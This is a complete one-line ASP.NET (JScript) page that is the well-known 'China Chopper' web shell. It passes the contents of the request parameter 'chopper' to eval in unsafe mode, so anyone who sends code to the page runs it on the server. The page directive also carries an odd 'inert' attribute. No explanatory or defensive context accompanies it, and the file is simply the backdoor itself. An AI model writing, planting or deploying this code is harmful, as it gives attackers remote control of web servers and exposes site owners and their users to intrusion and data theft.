<%@ Page Language="Jscript" inert %><%eval(Request.Item["chopper"],"unsafe");%>
